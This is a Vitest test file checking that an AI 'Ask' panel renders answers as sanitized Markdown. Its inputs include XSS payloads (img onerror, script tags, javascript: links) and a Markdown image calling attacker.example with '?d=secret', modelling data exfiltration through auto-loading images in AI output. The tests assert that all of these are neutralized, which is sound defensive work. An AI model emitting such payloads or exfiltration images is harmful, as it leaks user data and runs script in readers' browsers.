// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { markdownToPlain, renderMarkdown } from '../../../taskpane/panels/ask/render-markdown';

describe('the Ask panel renders answers as sanitized Markdown', () => {
  it('renders Markdown structure', () => {
    const html = renderMarkdown('# 标题\n\n- **一**\n- 二\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[link](https://example.com)');
    expect(html).toContain('<h1>标题</h1>');
    expect(html).toContain('<strong>一</strong>');
    expect(html).toContain('<td>1</td>');
    expect(html).toMatch(/<a href="https:\/\/example.com" target="_blank" rel="noopener noreferrer">/);
  });

  it('an answer containing <img onerror>, <script> or a javascript: link cannot run', () => {
    const html = renderMarkdown('Hi <img src=x onerror="alert(1)"> <script>alert(2)</script> [click](javascript:alert(3))');
    const div = document.createElement('div');
    div.innerHTML = html;
    expect(div.querySelector('img, script')).toBeNull();
    expect(html).not.toMatch(/<img|<script|href="javascript/i);
    expect(div.textContent).toContain('<img src=x onerror="alert(1)">');
  });

  it('plain text for cells and text boxes keeps lines and bullets', () => {
    expect(markdownToPlain('## Plan\n\n- one\n- **two**\n\nDone.')).toBe('Plan\n• one\n• two\n\nDone.');
  });

  it('a remote picture in an answer is a link naming its host, never an <img> that loads by itself', () => {
    const html = renderMarkdown(
      '![chart](https://attacker.example/p.png?d=secret) ![](http://127.0.0.1:9/x.png) ![local](pic.png) ![ok](data:image/png;base64,iVBORw0KGgo=)',
    );
    const doc = new DOMParser().parseFromString(html, 'text/html');
    expect([...doc.querySelectorAll('img')].map((i) => i.getAttribute('src'))).toEqual(['data:image/png;base64,iVBORw0KGgo=']);
    const links = [...doc.querySelectorAll('a')].map((a) => [a.getAttribute('href'), a.textContent]);
    expect(links).toEqual([
      ['https://attacker.example/p.png?d=secret', 'Picture from attacker.example: chart (not loaded; click to open)'],
      ['http://127.0.0.1:9/x.png', 'Picture from 127.0.0.1:9 (not loaded; click to open)'],
    ]);
    expect(doc.body.textContent).toContain('[local]');
  });

  it('plain text for a cell is made in an inert document: no picture starts loading', () => {
    const created: string[] = [];
    const original = document.createElement.bind(document);
    document.createElement = ((tag: string, o?: ElementCreationOptions) => {
      created.push(tag);
      return original(tag, o);
    }) as typeof document.createElement;
    try {
      expect(markdownToPlain('See ![x](https://attacker.example/p.png)')).toBe('See Picture from attacker.example: x (not loaded; click to open)');
    } finally {
      document.createElement = original;
    }
    expect(created).toEqual([]);
  });
});
